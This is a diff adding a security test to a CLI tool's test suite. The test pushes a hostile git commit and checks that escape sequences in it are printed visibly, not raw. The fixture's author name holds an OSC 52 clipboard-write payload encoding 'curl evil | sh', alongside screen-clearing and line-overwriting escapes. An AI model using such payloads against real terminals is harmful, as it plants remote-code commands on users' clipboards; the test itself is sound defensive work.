@@ -6,12 +6,14 @@
  * loosened, a control sequence reaching a terminal or a script reaching a page.
  */
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import { existsSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, describe, test } from 'node:test';
+import { axmeIn } from '../cli-in-process.ts';
 import { coreAt, rejectsWith } from '../core.ts';
-import { git } from '../helpers.ts';
+import { cleanEnv, git } from '../helpers.ts';
 import { teamOfTwo } from '../knowledge/fixture-copies.ts';
 import { storeCommit } from './bounded.ts';
 
@@ -48,5 +50,44 @@ describe('security: frontmatter that names another language than YAML', () => {
     await rejectsWith(coreAt(b).sync(), 'CORRUPT', /decisions\/use-redis\.md/);
     assert.equal(existsSync(marker), false, 'no code of the remote ran');
     assert.equal(git(b, ['rev-parse', REF]).trim(), before, 'nothing taken');
+  });
+});
+
+/** What a terminal would obey: an escape (ESC, CSI, OSC's BEL) or a carriage return, raw; the colours axme prints itself (bold, dim, red, green, yellow, cyan, resets) aside. */
+const TERMINAL_CONTROL = /[\u0007\u000d\u001b\u009b\u009d]/;
+const withoutOwnColours = (s: string) => s.replace(/\u001b\[(?:0|1|2|22|31|32|33|36|39)?m/g, '');
+
+describe("security: escape sequences in a remote's commits, printed by the CLI", () => {
+  test('a pushed commit whose author writes the clipboard (OSC 52) and clears the screen, and whose subject recolours and overwrites a line: `axme log`, `axme history` and the sync that takes it print them as escapes, never raw', async () => {
+    const { a, b } = await team();
+    const tip = git(a, ['rev-parse', REF]).trim();
+    const file = git(a, ['ls-tree', '--name-only', `${REF}:decisions`])
+      .trim()
+      .split('\n')[0]!;
+    const text = git(a, ['show', `${REF}:decisions/${file}`]).replace('Every migration', 'Every schema migration');
+    const c = storeCommit(a, tip, { [`decisions/${file}`]: text });
+    // the same tree, again, by an author and with a subject git accepts as they are
+    const evil = execFileSync(
+      'git',
+      ['commit-tree', `${c}^{tree}`, '-p', tip, '-m', 'fix typo \u001b[8mhidden\u001b[0m\rdecision: tidy\n\nAxme-Event: decision.updated\n'],
+      {
+        cwd: a,
+        encoding: 'utf8',
+        env: cleanEnv({ GIT_AUTHOR_NAME: 'Eve \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J', GIT_AUTHOR_EMAIL: 'eve@example.com' }),
+      },
+    ).trim();
+    git(a, ['push', '-q', 'origin', `${evil}:${REF}`]);
+
+    const synced = await axmeIn(b, ['sync']);
+    assert.equal(synced.code, 0, synced.stderr);
+    for (const args of [['log'], ['history', 'D-001'], ['sync']]) {
+      const r = await axmeIn(b, args);
+      assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
+      assert.doesNotMatch(withoutOwnColours(r.stdout + r.stderr), TERMINAL_CONTROL, `axme ${args.join(' ')} prints no raw control character`);
+    }
+    const log = await axmeIn(b, ['log']);
+    assert.match(log.stdout, /fix typo \\u001b\[8mhidden\u001b\[0m\\u000ddecision: tidy/, 'the subject is shown, its escapes visible');
+    const json = JSON.parse((await axmeIn(b, ['history', 'D-001', '--json'])).stdout);
+    assert.equal(json.versions[0].author, 'Eve \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J', 'JSON keeps the value as it is');
   });
 });
